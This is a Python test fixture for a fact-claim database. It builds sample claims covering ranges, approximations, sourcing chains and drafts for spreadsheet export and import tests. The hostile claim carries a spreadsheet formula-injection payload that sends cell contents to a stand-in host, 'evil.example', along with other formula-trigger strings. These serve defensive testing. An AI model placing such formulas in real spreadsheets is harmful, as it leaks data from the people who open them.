"""Claims that exercise every column of a claim sheet, for the export, import and sheet tests.

One claim per awkward case: a relayed chain with counted anonymous sources in two
sources, a range, an approximation, a figureless claim, a negative change in percent,
hostile spreadsheet text, a draft and a published review.
"""

from dataclasses import dataclass
from datetime import date

from claims.chains import LinkData
from claims.models import Claim, Metric, Review, Tag
from claims.services import review_save
from tests.factories import ClaimFactory, make_actor, make_outlet, make_source

HOSTILE_STATEMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
HOSTILE_TEXTS = {
    "statement": HOSTILE_STATEMENT,
    "quote": "+1 drone",
    "subject": "-2+3 drones",
    "place": "@SUM(A1:A9)",
}


@dataclass
class SheetClaims:
    relayed: Claim
    ranged: Claim
    approx: Claim
    figureless: Claim
    negative: Claim
    hostile: Claim
    draft: Claim

    @property
    def published(self):
        return [c for c in vars(self).values() if c.status == "published"]


def build_sheet_claims(reviewer):
    make = ClaimFactory()
    hill = make_outlet("The Hill", slug="the-hill", kind="digital")
    nbc = make_outlet("NBC News", slug="nbc-news", kind="broadcaster")
    hill_story = make_source(
        hill,
        "Pentagon halts munitions to Ukraine",
        url="https://thehill.com/pentagon-halts",
        published=date(2025, 7, 3),
    )
    nbc_story = make_source(
        nbc, "Pentagon pauses Hellfire deliveries", url="https://www.nbcnews.com/hellfire", published=date(2025, 7, 2)
    )
    undated = make_source(make_outlet("Daily8", slug="daily8"), "War comes home to North Korea")
    nbc_speaker = make_actor("NBC News", slug="nbc-news", kind="media")
    anonymous = make_actor("Anonymous sources (NBC News)", slug="nbc-news-anonymous-sources", kind="anonymous")
    officials = make_actor("US, Ukrainian and South Korean officials", slug="officials", kind="group")
    kursk, war = Tag.objects.create(name="Kursk"), Tag.objects.create(name="Russia-Ukraine war")
    metric = Metric.objects.create(name="North Korean workers sent to Kursk", slug="nk-workers-kursk", unit="workers")

    relayed = make(
        statement="The Pentagon paused deliveries of more than 100 Hellfire missiles to Ukraine.",
        quote="over 100 Hellfire missiles",
        value=100,
        qualifier="more_than",
        unit="missiles",
        subject="Hellfire missiles held back",
        place="Ukraine",
        period_start=date(2025, 7, 1),
        period_end=date(2025, 7, 1),
        links=[
            LinkData(hill_story, nbc_speaker, "reported", "relay", 1),
            LinkData(hill_story, anonymous, "citing", "origin", 2, 6),
            LinkData(nbc_story, anonymous, "citing", "origin", 1, 6),
        ],
        tags=[war],
        status="published",
    )
    review_save(
        review=Review(
            claim=relayed,
            rating="mostly_true",
            status="published",
            date_published=date(2025, 7, 5),
            url="https://factdb.example/reviews/hellfire",
            explanation="Two outlets, the same six sources.",
            reviewer=reviewer,
        )
    )
    ranged = make(
        statement="North Korea will send 4,000 to 5,000 workers to Kursk.",
        quote="4,000 to 5,000 workers",
        value=4000,
        value_max=5000,
        qualifier="range",
        unit="workers",
        metric=metric,
        period_start=date(2025, 7, 1),
        period_end=date(2025, 7, 31),
        links=[LinkData(undated, officials, "according_to", "origin", 1)],
        tags=[kursk, war],
        status="published",
    )
    approx = make(
        statement="North Korea sent roughly 12,000 troops to Kursk.",
        quote="some 12,000 troops",
        value=12000,
        qualifier="approx",
        unit="troops",
        links=[LinkData(undated, officials, "according_to", "origin", 1)],
        tags=[kursk],
        status="published",
    )
    figureless = make(
        statement="North Korea denied sending any troops.",
        status="published",
        links=[LinkData(hill_story, make_actor("KCNA", slug="kcna", kind="media"), "reported", "origin", 1)],
    )
    review_save(review=Review(claim=figureless, rating="false", status="published", date_published=date(2025, 7, 6)))
    negative = make(
        statement="Russia's budget revenue fell 2.5% on the year.",
        value="-2.5",
        qualifier="exact",
        unit="percent",
        status="published",
    )
    hostile = make(value=1, qualifier="exact", unit="drones", status="published", **HOSTILE_TEXTS)
    draft = make(statement="Thousands more may follow.", value=1000, qualifier="magnitude", unit="troops")
    return SheetClaims(relayed, ranged, approx, figureless, negative, hostile, draft)
